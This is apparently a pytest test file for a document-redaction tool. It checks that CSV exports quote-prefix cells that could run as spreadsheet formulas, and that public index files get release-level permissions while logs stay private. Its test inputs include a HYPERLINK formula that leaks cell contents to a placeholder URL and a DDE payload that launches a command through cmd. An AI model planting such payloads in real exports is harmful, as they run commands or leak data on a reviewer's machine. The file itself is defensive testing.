"""Outputs a reviewer or the public opens: CSV cells cannot run as formulas, and the public
exemption index has the release's file mode while the logs stay private."""

from __future__ import annotations

import csv
import io
import os
import stat
from pathlib import Path

import pytest

from redactkit._fileio import csv_cell, public_file_mode
from redactkit.batch.outputs import summary_csv
from redactkit.batch.rows import SummaryRow
from redactkit.model import Rect, Redaction
from redactkit.report import RedactionLog
from redactkit.review.exemption_index import index_csv, write_index

FORMULA = '=HYPERLINK("https://example.invalid/?q="&A1,"Click")'


def _log(text: str = FORMULA, context: str = FORMULA, reason: str = "personal privacy",
         output: str | None = None) -> RedactionLog:
    red = Redaction(id="r1", page=0, rects=(Rect(72, 90, 140, 102),), entity="PERSON",
                    exemption="(b)(6)", reason=reason, text=text, context=context, score=0.85)
    return RedactionLog(policy={"name": "p", "sha256": "0", "files": []},
                        source={"path": "in.pdf", "sha256": "0", "pages": 1},
                        output={"path": output or "in.redacted.pdf", "sha256": "0"}, redactions=[red])


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("value", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", FORMULA])
def test_formula_cells_get_a_quote(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Maria", "", "1", "a=b", -3, 0.5, None, "'=quoted already"])
def test_other_cells_unchanged(value: object) -> None:
    """Numbers stay numbers (a negative score is not a string); only strings are prefixed."""
    assert csv_cell(value) == value


def test_log_csv_neutralises_formula_in_text_and_context() -> None:
    """A redacted string starting with ``=HYPERLINK(`` reached the reviewer's spreadsheet as a
    live formula."""
    row = _cells(_log().to_csv())[0]
    assert row["text"] == "'" + FORMULA
    assert row["context"] == "'" + FORMULA
    assert row["score"] == "0.85"


def test_exemption_index_csv_neutralises_formula() -> None:
    row = _cells(index_csv([_log(reason="=cmd|' /C calc'!A0", output="=evil.redacted.pdf")]))[0]
    assert row["reason"].startswith("'=")
    assert row["document"] == "'=evil.redacted.pdf"
    assert row["page"] == "1"


def test_packet_summary_csv_neutralises_formula() -> None:
    row = SummaryRow(document="=doc", source="@src", policy="p", status="failed", pages=1,
                     error="-bad", notes="+1", requester="=HYPERLINK(1)")
    out = _cells(summary_csv([row]))[0]
    assert out["document"] == "'=doc" and out["source"] == "'@src" and out["error"] == "'-bad"
    assert out["notes"] == "'+1" and out["requester"] == "'=HYPERLINK(1)"
    assert out["pages"] == "1" and out["status"] == "failed"


def _mode(path: Path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def test_exemption_index_has_the_release_mode_logs_stay_private(tmp_path: Path) -> None:
    """The index was written mode 600 while the release PDFs were 644."""
    release = tmp_path / "in.redacted.pdf"
    release.write_bytes(b"%PDF-1.7\n")
    os.chmod(release, 0o644)
    log = _log(output=str(release))
    log.write_json(tmp_path / "in.log.json")
    files = write_index([log], tmp_path)
    assert _mode(files.csv) == 0o644 and _mode(files.html) == 0o644
    assert _mode(tmp_path / "in.log.json") == 0o600
    os.chmod(release, 0o640)  # a site that releases group-readable only: the index follows
    files = write_index([log], tmp_path / "again")
    assert _mode(files.csv) == 0o640


def test_public_mode_follows_umask(tmp_path: Path) -> None:
    """Without a release file to copy, the index gets what a new file gets (the release's mode)."""
    probe = tmp_path / "probe"
    probe.touch()
    assert public_file_mode() == _mode(probe)
    files = write_index([_log(output=str(tmp_path / "missing.pdf"))], tmp_path / "idx")
    assert _mode(files.csv) == _mode(probe)
